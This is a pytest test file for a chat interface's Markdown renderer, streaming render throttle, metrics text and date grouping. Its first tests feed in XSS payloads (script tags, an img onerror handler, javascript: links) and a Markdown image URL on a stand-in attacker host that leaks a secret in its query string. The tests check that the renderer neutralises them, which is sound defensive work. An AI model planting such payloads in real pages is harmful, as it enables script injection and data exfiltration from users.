"""The chat widgets' logic: safe Markdown (rendered incrementally while it streams), the render throttle, metrics
text and date groups."""

from __future__ import annotations

import asyncio
import itertools
import random
import time
from datetime import UTC, datetime, timedelta

import pytest

import ui.chat
from ui.chat import IncrementalMarkdown, Throttle, group_by_date, metrics_text, render_markdown


def test_markdown_escapes_raw_html_and_keeps_formatting() -> None:
    html = render_markdown('**bold** <img src=x onerror="alert(1)"> <script>alert(2)</script> '
                           '<a href="javascript:alert(3)">x</a> <div class="fixed inset-0">cover</div>')
    assert "<strong>bold</strong>" in html
    for dangerous in ("<img", "<script", "<a href=\"javascript", "<div class=\"fixed"):
        assert dangerous not in html
    assert "&lt;script&gt;" in html  # shown as the model wrote it


def test_markdown_links_and_code() -> None:
    html = render_markdown("[docs](https://example.com) [bad](javascript:alert(1))\n\n```python\nx = 1 < 2\n```")
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html
    assert "javascript" not in html
    assert '<div class="codehilite">' in html and "&lt;" in html


def test_a_code_block_still_streaming_renders_as_code() -> None:
    assert "<pre>" in render_markdown("Look:\n\n```python\ndef f():\n    return 1")


def test_images_are_not_rendered() -> None:
    # A model's output must not make the browser fetch a URL of its choosing (and leak the conversation).
    assert "<img" not in render_markdown("![x](https://attacker.example/leak?q=secret)")


SAMPLES = {
    "paragraphs": "First paragraph,\nwith a second line.\n\nSecond **paragraph**.\n\n\n\nThird, after blank lines.\n",
    "code fences": ("Here:\n\n```python\ndef f():\n\n\n    return 1 < 2\n```\n\nAnd in a list:\n\n- item\n\n"
                    "  ```\n  x\n\n  y\n  ```\n\nAfter. ```inline``` too.\n\n```\nunclosed\n\nstill code"),
    "lists": ("1. one\n\n2. two\n   continued\n\n   its paragraph\n3. three\n\nText.\n\n- a\n    - nested\n\n"
              "* b\n\n+ c\n\nEnd\n1) x\n\n2) y"),
    "tables": ("| a | b |\n|---|---|\n| 1 | 2 |\n\n| 3 | 4 |\n\nAfter the table.\n\n| c |\n|---|\n| 5 |\n"),
    "quotes and headings": ("> quoted\n> more\n\n> again\n\n# Title\n\nSetext\n===\n\n---\n\n    indented code\n\n"
                            "    more code\n\nplain\n\n```\nfence\n```\n---\n\nlast"),
    "a link definition below": "See [the docs][d].\n\nMore text.\n\n[d]: https://example.com\n\nEnd.",
    "raw html": "<div>\n\nhello\n\n</div>\n\n<script>alert(1)</script>\n\ntext <b>bold</b>",
}


def streamed(text: str, sizes: list[int]) -> IncrementalMarkdown:
    markdown = IncrementalMarkdown()
    position = 0
    for size in itertools.cycle(sizes):
        if position >= len(text):
            break
        position += size
        markdown.update(text[:position])
    return markdown


@pytest.mark.parametrize("name", SAMPLES)
def test_markdown_rendered_as_it_streams_ends_as_a_full_render(name: str) -> None:
    text = SAMPLES[name]
    for sizes in ([1], [3, 7, 1], [50]):
        assert streamed(text, sizes).html == render_markdown(text), (name, sizes)


def test_streamed_markdown_of_random_documents_ends_as_a_full_render() -> None:
    lines = ["Some text", "more *words* and `code`", "", "", "   ", "- item", "* star", "1. one", "2) two", "  cont",
             "    code", "\tTab", "```python", "```", "``` js", "~~~", "> quote", "# Head", "Title", "===", "---",
             "| a | b |", "|---|---|", "| 1 | 2 |", "[link](https://x.com)", "[r]: https://y.com", "[a][r]", "x" * 40]
    rng = random.Random(4)
    for _ in range(60):
        text = "\n".join(rng.choice(lines) for _ in range(rng.randint(1, 25))) + rng.choice(["", "\n"])
        assert streamed(text, [rng.randint(1, 9)]).html == render_markdown(text), text


def test_only_the_block_being_written_is_rendered_again(monkeypatch) -> None:
    paragraphs = [f"Paragraph {i} with **some** text and a list:\n\n- a\n- b\n" for i in range(40)]
    text = "\n".join(paragraphs)
    rendered: list[int] = []

    def counted(source: str) -> str:
        rendered.append(len(source))
        return render_markdown(source)

    monkeypatch.setattr(ui.chat, "render_markdown", counted)
    markdown = streamed(text, [5])
    assert markdown.html == render_markdown(text)
    assert len(markdown.blocks) == 79  # each paragraph and each list, but the last list: it is being written
    assert max(rendered) < 2 * max(len(p) for p in paragraphs) < len(text) / 10  # only the last block, never all
    monkeypatch.undo()
    assert markdown.update(text[:10] + "changed") is True  # not a continuation: started over
    assert markdown.html == render_markdown(text[:10] + "changed")


async def test_a_slow_render_spaces_the_next_one_out_by_as_long_as_it_took() -> None:
    loop = asyncio.get_running_loop()
    runs: list[tuple[float, float]] = []

    def slow_flush() -> None:
        started = loop.time()
        time.sleep(0.02)  # a render slower than the interval
        runs.append((started, loop.time()))

    throttle = Throttle(slow_flush, interval=0.005)
    started = loop.time()
    while loop.time() - started < 0.4:
        throttle.poke()
        await asyncio.sleep(0.001)
    throttle.cancel()
    assert len(runs) >= 3
    for (start, end), (next_start, _) in itertools.pairwise(runs):
        assert next_start >= end + (end - start) - 0.001  # the loop was free at least half of the time


async def test_the_throttle_flushes_at_most_once_per_interval_and_never_drops_the_last_poke() -> None:
    flushes: list[float] = []
    loop = asyncio.get_running_loop()
    throttle = Throttle(lambda: flushes.append(loop.time()), interval=0.05)
    started = loop.time()
    while loop.time() - started < 0.5:  # poked ~1000 times a second for half a second
        throttle.poke()
        await asyncio.sleep(0.001)
    last_poke = loop.time()
    await asyncio.sleep(0.1)
    assert 2 <= len(flushes) <= (last_poke - started) / 0.05 + 2
    assert all(b - a >= 0.049 for a, b in itertools.pairwise(flushes))
    assert flushes[-1] >= last_poke - 0.01  # the trailing poke was shown


def test_metrics_text() -> None:
    assert metrics_text(model="acme/m", output_tokens=100, ttft_ms=200, total_ms=2200) == (
        "acme/m · 100 tokens · first token 200 ms · 50.0 tokens/s")
    assert metrics_text(model=None, output_tokens=None, ttft_ms=None, total_ms=1500) == "1.5 s in all"


def test_conversations_are_grouped_by_age() -> None:
    now = datetime(2026, 11, 30, 12, tzinfo=UTC)
    items = [(now - timedelta(days=days), days) for days in (0, 0, 1, 3, 12, 45, 80)]
    assert group_by_date(items, now=now) == [
        ("Today", [0, 0]), ("Yesterday", [1]), ("Previous 7 days", [3]), ("Previous 30 days", [12]),
        ("2026-10", [45]), ("2026-09", [80])]
